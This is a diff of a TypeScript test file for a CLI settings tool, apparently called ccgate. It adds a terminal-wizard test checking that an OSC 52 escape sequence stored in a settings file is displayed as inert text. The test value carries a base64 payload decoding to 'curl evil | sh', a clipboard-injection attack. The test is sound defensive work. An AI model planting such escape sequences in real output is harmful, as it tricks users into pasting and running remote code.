@@ -1,5 +1,7 @@
 import path from 'node:path';
-import {describe, expect, test} from 'vitest';
+import {afterEach, describe, expect, test} from 'vitest';
+import {ccgateBin} from '../helpers/cli.js';
+import {TerminalSession} from '../wizard/tmux.js';
 import {ccgate, ccgateBinary, folder, put, sandbox, userSettingsPath} from './support.js';
 
 /*
@@ -83,5 +85,21 @@ describe('profiles and the store', () => {
 		const used = await ccgate(box, ['profile', 'use', 'cloned', '--settings', path.join(box.home, 'other.json')]);
 		expectNoControl(used);
 		expect(used).toEqual({exitCode: 2, stdout: '', stderr: String.raw`error: The value of ANTHROPIC_BASE_URL holds a control character (\u009b); give ANTHROPIC_BASE_URL without control characters or line breaks.` + '\n'});
+	});
+});
+
+describe('the wizard', () => {
+	let session: TerminalSession | undefined;
+	afterEach(() => {
+		session?.kill();
+		session = undefined;
+	});
+
+	test('its current-config step shows a settings file\'s OSC 52 written out, as text on the screen', async () => {
+		const box = sandbox();
+		put(userSettingsPath(box), JSON.stringify({env: {ANTHROPIC_BASE_URL: `http://127.0.0.1:9/${osc52}x`, ANTHROPIC_AUTH_TOKEN: 'token-0123456789abcdef'}}));
+		session = TerminalSession.start({command: [process.execPath, ccgateBin], env: box.env, cwd: box.home, columns: 160, rows: 30});
+		await session.until('Edit the current config');
+		expect(session.visibleScreen()).toContain(String.raw`ANTHROPIC_BASE_URL    http://127.0.0.1:9/\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07x`);
 	});
 });
